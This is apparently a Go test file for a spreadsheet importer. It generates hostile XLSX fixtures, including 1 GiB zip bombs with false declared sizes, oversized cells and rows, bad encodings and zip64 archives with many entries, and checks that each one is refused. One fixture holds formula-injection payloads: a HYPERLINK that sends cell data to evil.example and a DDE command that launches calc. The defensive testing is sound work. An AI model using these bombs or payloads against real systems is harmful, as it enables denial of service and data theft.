package importer_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"hash/crc32"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
)

// The hostile workbooks of these tests are generated, never committed: each is a zip written
// part by part, the huge ones from a deflate stream made of one compressed megabyte repeated, so
// that a gigabyte cell takes a megabyte and a fraction of a second to make.

const (
	mainNS  = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
	relNS   = `xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	sheetP  = "xl/worksheets/sheet1.xml"
	sharedP = "xl/sharedStrings.xml"
	stylesP = "xl/styles.xml"
	bookP   = "xl/workbook.xml"
	relsP   = "xl/_rels/workbook.xml.rels"
)

// bookParts are the parts of a workbook of one sheet whose <sheetData> holds rows, with shared
// strings and styles when they are not "".
func bookParts(rows, shared, styles string) map[string]string {
	parts := map[string]string{
		"[Content_Types].xml": `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
			`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` +
			`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
		"_rels/.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		bookP: workbookXML(""),
		relsP: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>` +
			`<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>` +
			`<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>`,
		sheetP: sheetXML(rows),
	}
	if shared != "" {
		parts[sharedP] = `<?xml version="1.0" encoding="UTF-8"?><sst ` + mainNS + `>` + shared + `</sst>`
	}
	if styles != "" {
		parts[stylesP] = `<?xml version="1.0" encoding="UTF-8"?><styleSheet ` + mainNS + `>` + styles + `</styleSheet>`
	}
	return parts
}

func workbookXML(props string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><workbook ` + mainNS + ` ` + relNS + `>` + props +
		`<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`
}

func sheetXML(rows string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><worksheet ` + mainNS + ` ` + relNS + `><sheetData>` + rows + `</sheetData></worksheet>`
}

// hugePart is a part that repeats unit size times its length between head and tail, compressed
// so that a gigabyte takes a megabyte. declared is the size the zip says it unpacks to: its own
// size when 0, or a lie.
type hugePart struct {
	name, head, unit, tail string
	size                   int64 // bytes of the repeated unit
	declared               uint64
}

// zipParts writes a workbook of parts (deflated) and huge parts.
func zipParts(t testing.TB, parts map[string]string, huge ...hugePart) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, name := range slices.Sorted(maps.Keys(parts)) {
		method := zip.Deflate
		if parts[name] == "" {
			method = zip.Store // no compressor to make
		}
		w, err := zw.CreateHeader(&zip.FileHeader{Name: name, Method: method})
		if err == nil {
			_, err = w.Write([]byte(parts[name]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, h := range huge {
		writeHuge(t, zw, h)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// writeHuge writes a huge part as one deflate stream of three kinds of pieces laid end to end:
// the head, a megabyte of the unit (compressed once, repeated), the tail. Each piece is
// compressed afresh and flushed, so it ends on a byte and refers to nothing before it.
func writeHuge(t testing.TB, zw *zip.Writer, h hugePart) {
	t.Helper()
	unit := strings.Repeat(h.unit, max(1, (1<<20)/len(h.unit)))
	deflate := func(s string, last bool) []byte {
		var b bytes.Buffer
		fw, _ := flate.NewWriter(&b, flate.BestCompression)
		fw.Write([]byte(s))
		if last {
			fw.Close()
		} else {
			fw.Flush()
		}
		return b.Bytes()
	}
	head, block, tail := deflate(h.head, false), deflate(unit, false), deflate(h.tail, true)
	blocks := h.size / int64(len(unit))
	crc := crc32.ChecksumIEEE([]byte(h.head))
	crc = crc32Combine(crc, crc32Repeat(crc32.ChecksumIEEE([]byte(unit)), int64(len(unit)), blocks), blocks*int64(len(unit)))
	crc = crc32Combine(crc, crc32.ChecksumIEEE([]byte(h.tail)), int64(len(h.tail)))
	size := uint64(len(h.head)) + uint64(blocks)*uint64(len(unit)) + uint64(len(h.tail))
	if h.declared != 0 {
		size = h.declared
	}
	w, err := zw.CreateRaw(&zip.FileHeader{Name: h.name, Method: zip.Deflate, CRC32: crc,
		CompressedSize64: uint64(len(head)) + uint64(blocks)*uint64(len(block)) + uint64(len(tail)), UncompressedSize64: size})
	if err != nil {
		t.Fatal(err)
	}
	w.Write(head)
	for range blocks {
		w.Write(block)
	}
	if _, err := w.Write(tail); err != nil {
		t.Fatal(err)
	}
}

// crc32Repeat is the CRC-32 of n copies of a block of size bytes whose CRC-32 is crc, found by
// doubling rather than by reading a gigabyte.
func crc32Repeat(crc uint32, size, n int64) uint32 {
	var sum uint32
	for ; n > 0; n >>= 1 {
		if n&1 == 1 {
			sum = crc32Combine(sum, crc, size)
		}
		crc, size = crc32Combine(crc, crc, size), 2*size
	}
	return sum
}

// crc32Combine is the CRC-32 of a then b from theirs and the length of b (zlib's crc32_combine):
// the CRC of a is carried over len2 zero bytes by squaring the operator of one zero bit.
func crc32Combine(crc1, crc2 uint32, len2 int64) uint32 {
	if len2 <= 0 {
		return crc1 ^ crc2
	}
	times := func(mat *[32]uint32, vec uint32) uint32 {
		var sum uint32
		for i := 0; vec != 0; i, vec = i+1, vec>>1 {
			if vec&1 == 1 {
				sum ^= mat[i]
			}
		}
		return sum
	}
	square := func(sq, mat *[32]uint32) {
		for n := range 32 {
			sq[n] = times(mat, mat[n])
		}
	}
	var even, odd [32]uint32
	odd[0] = crc32.IEEE
	for n, row := 1, uint32(1); n < 32; n, row = n+1, row<<1 {
		odd[n] = row
	}
	square(&even, &odd) // two zero bits
	square(&odd, &even) // four
	for {
		square(&even, &odd) // a zero byte, then two, four…
		if len2&1 == 1 {
			crc1 = times(&even, crc1)
		}
		if len2 >>= 1; len2 == 0 {
			break
		}
		square(&odd, &even)
		if len2&1 == 1 {
			crc1 = times(&odd, crc1)
		}
		if len2 >>= 1; len2 == 0 {
			break
		}
	}
	return crc1 ^ crc2
}

// hostileFixture is a generated hostile workbook and how it must be refused.
type hostileFixture struct {
	name    string
	build   func(t testing.TB) []byte
	row     int
	message string
}

const gib = 1 << 30

// headerRow is the header of a partner file, which every hostile workbook starts with.
var headerRow = func() string {
	row := `<row r="1">`
	for _, h := range strings.Split(header, ",") {
		row += `<c t="inlineStr"><is><t>` + h + `</t></is></c>`
	}
	return row + `</row>`
}()

var hostileFixtures = []hostileFixture{
	{"one cell of 1 GiB", func(t testing.TB) []byte {
		return zipParts(t, without(bookParts("", "", ""), sheetP), hugePart{name: sheetP,
			head: openSheet(headerRow + `<row r="2"><c r="A2" t="inlineStr"><is><t>`),
			unit: "a", size: gib, tail: `</t></is></c></row></sheetData></worksheet>`})
	}, 1, "import.error.xlsx_unpacked"},
	{"one cell of 1 GiB in a part that says it holds 10 MB", func(t testing.TB) []byte {
		return zipParts(t, without(bookParts("", "", ""), sheetP), hugePart{name: sheetP,
			head: openSheet(headerRow + `<row r="2"><c r="A2" t="str"><v>`), unit: "a", size: gib,
			tail: `</v></c></row></sheetData></worksheet>`, declared: 10 << 20})
	}, 2, "import.error.xlsx_cell"},
	{"a shared string of 1 GiB in a part that says it holds 10 MB", func(t testing.TB) []byte {
		return zipParts(t, bookParts(headerRow, "", ""), hugePart{name: sharedP,
			head: `<sst ` + mainNS + `><si><t>`, unit: "a", size: gib, tail: `</t></si></sst>`, declared: 10 << 20})
	}, 1, "import.error.xlsx_text"},
	{"a zip bomb: a sheet of 1 GiB of rows", func(t testing.TB) []byte {
		return zipParts(t, without(bookParts("", "", ""), sheetP), hugePart{name: sheetP,
			head: openSheet(headerRow), unit: `<row><c><v>1</v></c></row>`, size: gib, tail: `</sheetData></worksheet>`})
	}, 1, "import.error.xlsx_unpacked"},
	{"a zip bomb that says it holds 1 MB", func(t testing.TB) []byte {
		return zipParts(t, without(bookParts("", "", ""), sheetP), hugePart{name: sheetP,
			head: openSheet(headerRow), unit: `<row><c><v>1</v></c></row>`, size: gib, tail: `</sheetData></worksheet>`, declared: 1 << 20})
	}, bombRow, "import.error.xlsx"},
	{"a zip bomb in the shared strings", func(t testing.TB) []byte {
		return zipParts(t, bookParts(headerRow, "", ""), hugePart{name: sharedP,
			head: `<sst ` + mainNS + `>`, unit: `<si><t>a</t></si>`, size: gib, tail: `</sst>`})
	}, 1, "import.error.xlsx_unpacked"},
	{"styles of 1 GiB", func(t testing.TB) []byte {
		return zipParts(t, bookParts(headerRow, "", ""), hugePart{name: stylesP,
			head: `<styleSheet ` + mainNS + `><cellXfs>`, unit: `<xf numFmtId="0"/>`, size: gib, tail: `</cellXfs></styleSheet>`})
	}, 1, "import.error.xlsx_part"},
	{"a row of 20,000 cells", func(t testing.TB) []byte {
		return zipParts(t, bookParts(headerRow+`<row r="2">`+strings.Repeat(`<c><v>1</v></c>`, 20_000)+`</row>`, "", ""))
	}, 2, "import.error.xlsx_columns"},
	{"a row of 2 MB", func(t testing.TB) []byte {
		cell := `<c t="inlineStr"><is><t>` + strings.Repeat("b", 30_000) + `</t></is></c>`
		return zipParts(t, bookParts(headerRow+`<row r="2"><c><v>1</v></c></row><row r="3">`+strings.Repeat(cell, 70)+`</row>`, "", ""))
	}, 3, "import.error.xlsx_row"},
	{"rows of one cell in the last column", func(t testing.TB) []byte {
		return zipParts(t, without(bookParts("", "", ""), sheetP), hugePart{name: sheetP,
			head: openSheet(headerRow), unit: `<row><c r="XFD9"><v>1</v></c></row>`, size: 10 << 20, tail: `</sheetData></worksheet>`})
	}, 129, "import.error.xlsx_unpacked"},
	{"a zip of 20,000 entries", func(t testing.TB) []byte { return manyEntries(t, 20_000) }, 1, "import.error.xlsx"},
	{"a zip64 of 70,000 entries", func(t testing.TB) []byte { return manyEntries(t, 70_000) }, 1, "import.error.xlsx"},
	{"a cell beyond the last column", func(t testing.TB) []byte {
		return zipParts(t, bookParts(headerRow+`<row r="2"><c r="XFE2"><v>1</v></c></row>`, "", ""))
	}, 2, "import.error.xlsx_columns"},
	{"Latin-1 in a cell", func(t testing.TB) []byte {
		return zipParts(t, bookParts(headerRow+`<row r="2"><c t="inlineStr"><is><t>sn</t></is></c></row>`+
			`<row r="3"><c t="inlineStr"><is><t>S`+"\xe9n\xe9"+`gal</t></is></c></row>`, "", ""))
	}, 3, "import.error.encoding"},
	{"Latin-1 in a shared string", func(t testing.TB) []byte {
		return zipParts(t, bookParts(headerRow+`<row r="2"><c t="s"><v>0</v></c></row>`, "<si><t>S\xe9n\xe9gal</t></si>", ""))
	}, 1, "import.error.encoding"},
	{"a NUL byte in a cell", func(t testing.TB) []byte {
		return zipParts(t, bookParts(headerRow+`<row r="4"><c t="str"><v>a`+"\x00"+`b</v></c></row>`, "", ""))
	}, 4, "import.error.encoding"},
	{"a NUL written _x0000_", func(t testing.TB) []byte {
		return zipParts(t, bookParts(headerRow+`<row r="2"><c t="inlineStr"><is><t>a_x0000_b</t></is></c></row>`, "", ""))
	}, 2, "import.error.encoding"},
	{"a shared string that is not there", func(t testing.TB) []byte {
		return zipParts(t, bookParts(headerRow+`<row r="2"><c t="s"><v>0</v></c><c t="s"><v>1</v></c></row>`, "<si><t>one</t></si>", ""))
	}, 2, "import.error.xlsx"},
	{"a negative shared string", func(t testing.TB) []byte {
		return zipParts(t, bookParts(headerRow+`<row r="2"><c t="s"><v>-1</v></c></row>`, "<si><t>one</t></si>", ""))
	}, 2, "import.error.xlsx"},
}

// formulaCells is a partner workbook whose cells are formulas a spreadsheet would run: the name
// of one partner computed by HYPERLINK, an acronym by a DDE call, with the values Excel saved, and
// a name that is text starting like a formula. Pactum reads the saved values and the text as
// text, and never evaluates anything.
func formulaCells(t testing.TB) []byte {
	return zipParts(t, bookParts(headerRow+
		`<row r="2"><c t="inlineStr"><is><t>kestrel-bank</t></is></c>`+
		`<c t="str"><f>HYPERLINK("http://evil.example/?d="&amp;A2,"Kestrel Bank")</f><v>Kestrel Bank</v></c>`+
		`<c t="inlineStr"><is><t>development_bank</t></is></c><c t="inlineStr"><is><t>none</t></is></c><c t="inlineStr"><is><t>active</t></is></c></row>`+
		`<row r="3"><c t="inlineStr"><is><t>condor-fund</t></is></c>`+
		`<c t="inlineStr"><is><t>=HYPERLINK("http://evil.example/?d="&amp;A3,"Open")</t></is></c>`+
		`<c t="str"><f>cmd|' /C calc'!A0</f><v>foundation</v></c><c t="inlineStr"><is><t>none</t></is></c><c t="inlineStr"><is><t>active</t></is></c></row>`, "", ""))
}

// bombRow is where the zip stops the bomb that says it holds 1 MB: on the row after those that
// fit in a megabyte.
var bombRow = (1<<20-len(openSheet(headerRow)))/len(`<row><c><v>1</v></c></row>`) + 2

// manyEntries is a workbook followed by n empty entries, whose directory would take some 200
// bytes each to read; from 65,535 entries on, the zip is a zip64.
func manyEntries(t testing.TB, n int) []byte {
	parts := bookParts(headerRow, "", "")
	for i := range n {
		parts["xl/media/"+strconv.Itoa(i)] = ""
	}
	return zipParts(t, parts)
}

// openSheet is the start of a sheet part, up to rows.
func openSheet(rows string) string {
	return strings.TrimSuffix(sheetXML(rows), `</sheetData></worksheet>`)
}

func without(parts map[string]string, name string) map[string]string {
	delete(parts, name)
	return parts
}

var (
	fixtureOnce  sync.Once
	fixtureBytes map[string][]byte
)

// hostileFile returns the fixture's workbook, generated once for the tests and benchmarks.
func hostileFile(t testing.TB, name string) []byte {
	t.Helper()
	fixtureOnce.Do(func() {
		fixtureBytes = map[string][]byte{}
		for _, f := range hostileFixtures {
			fixtureBytes[f.name] = f.build(t)
		}
	})
	return fixtureBytes[name]
}

func TestCRC32Repeat(t *testing.T) {
	block := []byte("<row><c><v>1</v></c></row>")
	for _, n := range []int64{0, 1, 2, 3, 7, 100} {
		want := crc32.ChecksumIEEE(bytes.Repeat(block, int(n)))
		if got := crc32Repeat(crc32.ChecksumIEEE(block), int64(len(block)), n); got != want {
			t.Errorf("%d: %x, want %x", n, got, want)
		}
	}
	a, b := []byte("hello, "), []byte("world")
	if got, want := crc32Combine(crc32.ChecksumIEEE(a), crc32.ChecksumIEEE(b), int64(len(b))), crc32.ChecksumIEEE(append(a, b...)); got != want {
		t.Errorf("combine: %x, want %x", got, want)
	}
}

// TestWriteHostileFixtures writes the hostile workbooks into the folder PACTUM_XLSX_FIXTURES
// names, to try them on the command or the page:
//
//	PACTUM_XLSX_FIXTURES=/tmp/hostile go test ./internal/importer/ -run WriteHostileFixtures
//	go run ./cmd/pactum import partners "/tmp/hostile/one cell of 1 GiB.xlsx" --dry-run
func TestWriteHostileFixtures(t *testing.T) {
	dir := os.Getenv("PACTUM_XLSX_FIXTURES")
	if dir == "" {
		t.Skip("PACTUM_XLSX_FIXTURES names no folder")
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, f := range hostileFixtures {
		if err := os.WriteFile(filepath.Join(dir, f.name+".xlsx"), hostileFile(t, f.name), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "formula cells.xlsx"), formulaCells(t), 0o644); err != nil {
		t.Fatal(err)
	}
}
